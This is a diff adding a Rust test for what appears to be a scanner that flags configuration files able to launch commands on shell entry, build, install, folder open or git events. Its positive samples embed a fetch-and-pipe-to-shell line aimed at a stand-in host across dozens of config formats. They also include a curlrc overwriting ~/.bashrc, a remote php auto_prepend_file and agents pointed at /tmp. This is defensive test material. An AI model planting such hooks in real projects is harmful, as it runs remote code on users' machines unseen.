@@ -226,6 +226,70 @@ fn helpers_of_connections_and_systems_that_run_something_else_are_found() {
 }
 
 #[test]
+fn prompts_builds_macros_and_downloads_that_run_something_else_are_found() {
+    const FETCH: &str = "curl -s https://host.invalid/a | sh";
+    let list =
+        |text: &str| format!("<plist version=\"1.0\"><dict><key>script</key>\n<string>{text}</string></dict></plist>");
+    let omp =
+        |command: &str| format!(r#"{{"blocks": [{{"segments": [{{"properties": {{"command": "{command}"}}}}]}}]}}"#);
+    let tf = |command: &str| {
+        format!(
+            r#"{{"resource": {{"a": {{"b": {{"provisioner": [{{"local-exec": {{"command": "{command}"}}}}]}}}}}}}}"#
+        )
+    };
+    for (name, text, id) in [
+        ("a/.config/starship.toml", format!("[custom.a]\ncommand = '{FETCH}'\n"), "hooks.shell-entry"),
+        ("a.omp.json", omp(FETCH), "hooks.shell-entry"),
+        (".tmuxinator.yml", format!("name: a\non_project_start: {FETCH}\n"), "hooks.shell-entry"),
+        ("a/.wgetrc", "use_askpass = /tmp/a\n".to_owned(), "hooks.shell-entry"),
+        ("a/.curlrc", "url = https://host.invalid/a\noutput = ~/.bashrc\n".to_owned(), "hooks.shell-entry"),
+        (".gnupg/gpg-agent.conf", "pinentry-program /tmp/a\n".to_owned(), "hooks.shell-entry"),
+        ("mpv/input.conf", format!("q run sh -c \"{FETCH}\"\n"), "hooks.shell-entry"),
+        ("A.xcodeproj/project.pbxproj", format!("shellScript = \"{FETCH}\\n\";\n"), "hooks.build"),
+        ("A.xcscheme", format!("<ActionContent scriptText=\"{FETCH}\"/>\n"), "hooks.build"),
+        ("info.plist", list(FETCH), "hooks.installation"),
+        ("a.kmmacros", list(FETCH), "hooks.installation"),
+        ("a.csproj.user", "<StartProgram>\\\\host.invalid\\s\\a.exe</StartProgram>\n".to_owned(), "hooks.build"),
+        ("a.tf.json", tf(FETCH), "hooks.build"),
+        ("a/.helix/languages.toml", "[language-server.x]\ncommand = './x'\n".to_owned(), "hooks.folder-open"),
+        (
+            "a/.vim/coc-settings.json",
+            format!(r#"{{"languageserver": {{"x": {{"command": "sh", "args": ["-c", "{FETCH}"]}}}}}}"#),
+            "hooks.folder-open",
+        ),
+        ("devbox.json", format!(r#"{{"shell": {{"init_hook": ["{FETCH}"]}}}}"#), "hooks.shell-entry"),
+        ("flake.nix", format!("shellHook = ''\n{FETCH}\n'';\n"), "hooks.shell-entry"),
+        ("php.ini", "[PHP]\nauto_prepend_file=http://host.invalid/a\n".to_owned(), "hooks.shell-entry"),
+        ("a/kernels/x/kernel.json", format!(r#"{{"argv": ["sh", "-c", "{FETCH}"]}}"#), "hooks.folder-open"),
+        ("a.thumbnailer", format!("[Thumbnailer Entry]\nExec=sh -c \"{FETCH}\"\n"), "hooks.system"),
+        ("lefthook.yml", format!("post-checkout:\n  commands:\n    a:\n      run: {FETCH}\n"), "hooks.git"),
+        ("gradle.properties", "org.gradle.jvmargs=-Xmx1g -javaagent:./a.jar\n".to_owned(), "hooks.build"),
+        ("hatch.toml", format!("[envs.default]\npost-install-commands = ['{FETCH}']\n"), "hooks.installation"),
+        ("flows.json", format!(r#"[{{"type": "exec", "command": "{FETCH}"}}]"#), "hooks.build"),
+        ("printer.ini", format!("# a\npost_process = sh -c '{FETCH}'\n"), "hooks.build"),
+    ] {
+        check(name, &text, &[id]);
+    }
+    for (name, text) in [
+        ("a/.config/starship.toml", "[custom.a]\ncommand = 'git rev-parse HEAD'\nwhen = true\n".to_owned()),
+        ("a/.curlrc", "output = src.tar.gz\nproxy = http://host.invalid\n".to_owned()),
+        ("a/.wgetrc", "tries = 3\nuse_askpass = ssh-askpass\n".to_owned()),
+        (".gnupg/gpg-agent.conf", "pinentry-program /home/a/.local/bin/pinentry-b\n".to_owned()),
+        ("A.xcodeproj/project.pbxproj", "shellScript = \"if which swiftlint; then swiftlint; fi\\n\";\n".to_owned()),
+        ("a/.helix/languages.toml", "[language-server.x]\ncommand = 'pyright'\nargs = ['--stdio']\n".to_owned()),
+        ("php.ini", "[PHP]\nauto_prepend_file =\nmemory_limit = 128M\n".to_owned()),
+        ("a/kernels/x/kernel.json", r#"{"argv": ["python", "-m", "ipykernel_launcher"]}"#.to_owned()),
+        ("gradle.properties", "org.gradle.jvmargs=-Xmx1g -Dfile.encoding=UTF-8\n".to_owned()),
+        ("Info.plist", list("https://host.invalid/a")),
+        ("a.csproj.user", "<StartProgram>C:\\a\\b.exe</StartProgram>\n".to_owned()),
+        ("a.tf.json", tf("echo done")),
+        ("printer.ini", "[a]\npost_process = /usr/local/bin/smooth\n".to_owned()),
+    ] {
+        check(name, &text, &[]);
+    }
+}
+
+#[test]
 fn neither_dots_in_names_nor_spellings_of_a_path_hide_settings() {
     let server = r#"{"mcpServers": {"a.b": {"command": "echo"}}}"#;
     let task = r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#;
